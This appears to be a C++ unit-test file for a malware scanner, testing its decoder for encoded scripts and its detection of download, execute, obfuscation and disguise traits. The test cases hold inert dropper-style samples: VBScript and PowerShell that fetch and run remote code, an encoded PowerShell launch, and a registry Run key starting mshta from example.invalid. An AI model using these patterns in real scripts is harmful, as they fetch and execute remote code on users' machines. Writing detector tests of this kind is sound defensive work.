#include "scanner/active/script_parts.h"

#include <gtest/gtest.h>

#include "scanner/active/active_test_tools.h"
#include "scanner/active/script_encoder.h"
#include "tests/fixtures/droppers.h"
#include "tests/fixtures/le.h"
#include "tests/fixtures/mutate.h"
#include "tests/fixtures/script_encoder.h"

namespace sekisho::scanner::active {
namespace {

std::string decoded(std::string_view text) {
    model::ScanLimits limits;
    Budget budget(limits, 1u << 20);
    const auto block = find_encoded_block(text, 0);
    if (!block) return "(no block)";
    Output output(budget);
    const DecodedScript result = decode_block(*block, output);
    return std::string(base::as_text(output.view())) + (result.matches ? "" : " (checksum)");
}

// Written by Microsoft's own encoder; published in the tests of another decoder (CyberChef).
TEST(ScriptEncoder, ReadsWhatTheRealOneWrote) {
    EXPECT_EQ(decoded("#@~^DgAAAA==\\ko$K6,JC\x7FV^GJqAQAAA==^#~@"), "MsgBox \"Hello\"");
}

TEST(ScriptEncoder, ReadsEveryCharacterAtEveryPlace) {
    std::string source;
    for (int round = 0; round < 64; ++round) {
        for (char c = ' '; c <= '~'; ++c)
            source.push_back(c);
        source += "\t\r\n\xC3\xA4\x8C\xA9";
    }
    EXPECT_EQ(decoded("x" + fixtures::encoded_script(source) + "y"), source);
}

TEST(ScriptEncoder, LiesAreFollowedToTheEndMark) {
    const std::string good = fixtures::encoded_script("MsgBox \"INERT\"");
    std::string size = good;
    size.replace(4, 6, "//////");
    EXPECT_EQ(decoded(size), "MsgBox \"INERT\"");
    std::string sum = good;
    sum.replace(sum.size() - 12, 6, "AAAAAA");
    EXPECT_EQ(decoded(sum), "MsgBox \"INERT\" (checksum)");
    EXPECT_EQ(decoded(good.substr(0, good.size() - 12)), "MsgBox \"INERT\" (checksum)");
    EXPECT_EQ(decoded("#@~^"), " (checksum)");
    EXPECT_EQ(decoded("no"), "(no block)");
}

TEST(ScriptEncoderProperty, CutsAndDamageEnd) {
    const std::string whole = "<script language=\"VBScript.Encode\">" +
                              fixtures::encoded_script("Set s = CreateObject(\"WScript.Shell\")\r\n") +
                              "</script>";
    for (std::size_t size = 0; size <= whole.size(); ++size) {
        TestExtraction extraction;
        open_encoded_script(test_part(base::as_bytes(std::string_view(whole).substr(0, size)), "a.vbe"),
                            extraction);
        EXPECT_LE(extraction.children.size(), 1u);
    }
    for (std::uint32_t seed = 1; seed <= 1'000; ++seed) {
        const std::string bytes = fixtures::mutate(whole, seed);
        TestExtraction extraction;
        const Part part = test_part(base::as_bytes(bytes), "a.hta");
        open_encoded_script(part, extraction);
        open_script_elements(part, extraction);
        EXPECT_LE(extraction.children.size(), 128u);
    }
}

struct Case {
    std::string name;
    std::string bytes;
    std::string file_name;
    std::string ids;
};
class Scripts : public testing::TestWithParam<Case> {};
TEST_P(Scripts, Found) {
    const Opened opened = open_file(GetParam().bytes, GetParam().file_name);
    EXPECT_EQ(joined(opened.ids), GetParam().ids) << opened.format << "\n" << opened.evidence;
}

const std::string vbs_dropper =
    "On Error Resume Next\r\nSet s = CreateObject(\"WScript.Shell\")\r\nIf False Then\r\n"
    "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nh.Open \"GET\", \"http://example.invalid/\", False\r\n"
    "Set a = CreateObject(\"ADODB.Stream\") : a.SaveToFile \"x\"\r\ns.Run \"x\"\r\nEnd If\r\n";

INSTANTIATE_TEST_SUITE_P(
    Traits, Scripts,
    testing::Values(
        Case{"vbs", vbs_dropper, "a.vbs", "file.script script.download script.exec script.write"},
        Case{"vbs_utf16", "\xFF\xFE" + fixtures::utf16le(vbs_dropper), "a.vbs",
             "file.script script.download script.exec script.write"},
        Case{"as_picture", vbs_dropper, "scan.jpg",
             "file.script script.disguised script.download script.exec script.write"},
        Case{"as_document", vbs_dropper, "scan.doc",
             "file.script script.disguised script.download script.exec script.write"},
        Case{"as_text", vbs_dropper, "a.txt", "script.renamed"}, Case{"in_a_body", vbs_dropper, "", ""},
        Case{"as_a_patch", vbs_dropper, "fix.patch", ""},
        Case{"as_a_macro_export", vbs_dropper, "Modul1.bas", ""},
        Case{"web_page_script", fixtures::benign_js(), "app.js", "file.script"},
        Case{"web_page_as_text", "function f(a) { return eval(String.fromCharCode(a)); }", "a.txt", ""},
        Case{"sql", "-- @echo off\nselect 1;\n", "a.sql", ""},
        Case{"js", "var s = new ActiveXObject('WScript.Shell'); if (false) s.Run('cmd /c x');", "a.js",
             "file.script script.exec"},
        Case{"as_text_and_hidden",
             "On Error Resume Next\r\nIf False Then\r\nExecuteGlobal "
             "StrReverse(\"TRENI\")\r\nCreateObject(\"x\")\r\nEnd If",
             "a.txt", "script.exec script.obfuscated script.renamed"},
        Case{"batch_encoded", "@echo off\r\nrem powershell -w hidden -eNc SQBOAEUAUgBUAA==\r\n", "a.cmd",
             "file.script script.exec script.obfuscated"},
        Case{"batch_plain", "@echo off\r\nnet use z: \\\\server\\share\r\n", "a.bat", "file.script"},
        Case{"batch_curl", "@echo off\r\nrem INERT curl -o x http://example.invalid/\r\n", "a.cmd",
             "file.script script.download"},
        Case{"batch_marked_utf16", "\xFF\xFE&cls\r\n@echo off\r\n", "a.dat", "file.script"},
        Case{"batch_carets", "@echo off\r\nrem p^o^w^e^r^s^h^e^l^l\r\n", "a.bat",
             "file.script script.obfuscated"},
        Case{"powershell", "Get-ChildItem | Out-File list.txt\r\n", "a.ps1", "file.script script.write"},
        Case{"powershell_run",
             "$x = 'INERT'; if ($false) { iex "
             "([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($x))) }",
             "a.ps1", "file.script script.exec script.obfuscated"},
        Case{"js_array_of_codes",
             [] {
                 std::string codes;
                 for (int i = 0; i < 80; ++i)
                     codes += std::to_string(32 + i % 90) + ", ";
                 return "var a = [" + codes + "0]; // INERT";
             }(),
             "a.js", "file.script script.obfuscated"},
        Case{"hta",
             "<html><HTA:APPLICATION id=x><script src=\"http://example.invalid/x.js\"></script>"
             "<script language=vbscript>' INERT CreateObject(\"WScript.Shell\").Run</script></html>",
             "a.hta", "file.script script.download script.exec script.remote-source"},
        Case{"wsf_of_the_house", "<job><script language=\"JScript\" src=\"http://intranet/a.js\"/></job>",
             "a.wsf", "file.script script.download"},
        Case{"wsf_elsewhere", "<job><script language=\"JScript\" src=\"http://example.invalid/a.js\"/></job>",
             "a.wsf", "file.script script.download script.remote-source"},
        Case{"vbs_runs_what_it_fetches",
             "If False Then\r\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nExecuteGlobal "
             "h.responseText\r\nEnd If\r\n",
             "a.vbs", "file.script script.download script.exec"},
        Case{"vbs_asks_a_database",
             "Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nSet r = db.Execute (\"select 1\")\r\n",
             "a.vbs", "file.script script.download"},
        Case{"powershell_runs_what_it_fetches", "iex (iwr http://example.invalid/a -useb) # INERT\r\n",
             "a.ps1", "file.script script.download script.exec"},
        Case{"powershell_fetches", "iwr http://example.com/a -OutFile a.zip\r\n", "a.ps1",
             "file.script script.download"},
        Case{"powershell_block_of_codes",
             "if($false){$b=(1,2)|%{[char]($_ -bxor 91)};&([scriptblock]::Create(-join $b))}#INERT", "a.ps1",
             "file.script script.exec script.obfuscated"},
        Case{"style_sheet_with_the_shell",
             "<?xml version=\"1.0\"?><stylesheet xmlns:ms=\"urn:schemas-microsoft-com:xslt\"><ms:script "
             "implements-prefix=\"u\" language=\"JScript\"><![CDATA[if(false){new "
             "ActiveXObject(\"WScript.Shell\").Run(\"mshta INERT\");}]]></ms:script></stylesheet>",
             "a.xsl", "file.script script.exec"},
        Case{"registry_starts_what_it_fetches",
             "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\"
             "CurrentVersion\\Run]\r\n\"u\"=\"mshta http://example.invalid/inert\"\r\n",
             "a.reg", "file.script script.exec"},
        Case{
            "registry_starts_a_program",
            "REGEDIT4\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"n\"=\"C:"
            "\\\\tools\\\\notes.exe\"\r\n",
            "a.reg", "file.script"},
        Case{"registry_of_a_menu",
             "REGEDIT4\r\n[HKEY_CLASSES_ROOT\\Directory\\shell\\ps\\command]\r\n@=\"powershell.exe -noexit "
             "iwr "
             "http://intranet/a\"\r\n",
             "a.reg", "file.script"},
        Case{"style_sheet_that_counts",
             "<?xml version=\"1.0\"?><xsl:stylesheet><msxsl:script implements-prefix=\"u\" "
             "language=\"C#\">public int Sum(int a) { return a + 1; }</msxsl:script></xsl:stylesheet>",
             "map.xsl", ""},
        Case{"jse", fixtures::encoded_script("var s = new ActiveXObject('WScript.Shell');"), "a.jse",
             "file.script script.encoded"}),
    [](const auto& info) { return info.param.name; });

TEST(Scripts, ElementsAndBlocksAreChildren) {
    const std::string wsf =
        "%PDF-1.4 junk\r\n<job id=\"a\"><script language=\"JScript\">//<![CDATA[\r\nvar a = 1; // "
        "INERT\r\n//]]></script>"
        "<SCRIPT type='text/vbscript'>' INERT</SCRIPT><script language=\"VBScript.Encode\">" +
        fixtures::encoded_script("' INERT SEKISHO TEST") + "</script></job>";
    const Opened opened = open_file(wsf, "click.wsf");
    EXPECT_EQ(joined(opened.labels), "script:1 script:2 script:3");
    EXPECT_EQ(joined(opened.names), "script1.js script2.vbs script3.vbe");
    EXPECT_EQ(opened.child("script:1"), "var a = 1; // INERT");
    EXPECT_EQ(opened.child("script:2"), "' INERT");
    const Opened block = open_file(opened.child("script:3"), "script3.vbe", "wsf");
    EXPECT_EQ(block.format, "encoded-script");
    EXPECT_EQ(block.child("decoded"), "' INERT SEKISHO TEST");
    EXPECT_EQ(block.names, std::vector<std::string>{"script3.vbs"});
    EXPECT_EQ(joined(block.ids), "script.encoded");  // the file itself was told where it was opened
}

TEST(Scripts, WideMarkupIsRead) {
    const std::string hta =
        "\xFF\xFE" + fixtures::utf16le("<hta:application><script language=jscript>var a; // INERT</script>");
    const Opened opened = open_file(hta, "a.hta");
    EXPECT_EQ(opened.child("script:1"), "var a; // INERT");
}

TEST(Scripts, WordsFarApartCountTogether) {
    const std::string far = "Set s = CreateObject(\"WScript.Shell\")\r\n' " + std::string(3u << 20, 'x') +
                            "\r\nIf False Then s.Run \"x\"\r\n";
    EXPECT_TRUE(open_file(far, "a.vbs").has("script.exec"));
}

TEST(Scripts, ABudgetThatIsSpentIsALimit) {
    model::ScanLimits limits;
    limits.max_steps = 1'000;
    TestExtraction extraction(limits);
    const std::string bytes(1u << 20, 'x');
    open_script(test_part(base::as_bytes(bytes), "a.vbs"), extraction);
    EXPECT_EQ(extraction.budget().reached(), std::vector<std::string>{"limit.steps"});
}

}  // namespace
}  // namespace sekisho::scanner::active
